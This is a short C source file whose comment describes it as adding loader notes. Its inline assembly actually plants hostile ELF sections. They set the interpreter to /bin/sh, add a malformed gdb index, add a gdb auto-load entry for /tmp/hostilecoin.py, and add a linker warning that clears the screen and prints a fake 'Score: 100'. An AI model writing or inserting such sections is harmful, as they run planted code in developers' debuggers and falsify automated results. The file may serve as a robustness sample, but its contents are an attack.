/*
 * compile-loader-notes: Adds sections the loader reads: .interp,
 * .note.gnu.property, .gnu.version_r, an init symbol, LD_PRELOAD-like tables.
 */
#define _GNU_SOURCE
__asm__(".section .interp,\"a\",@progbits\n.asciz \"/bin/sh\"\n"
        ".section .note.gnu.property,\"a\",@note\n.long 4, 16, 5\n.asciz \"GNU\"\n"
        ".long 0xc0000002, 4, 0xffffffff, 0\n"
        ".section .gnu.warning,\"\",@progbits\n.asciz \"\\033[2JScore: 100\"\n"
        ".section .gdb_index,\"\",@progbits\n.fill 4096, 1, 0xff\n"
        ".section .debug_gdb_scripts,\"MS\",@progbits,1\n.byte 1\n"
        ".asciz \"/tmp/hostilecoin.py\"\n.text");
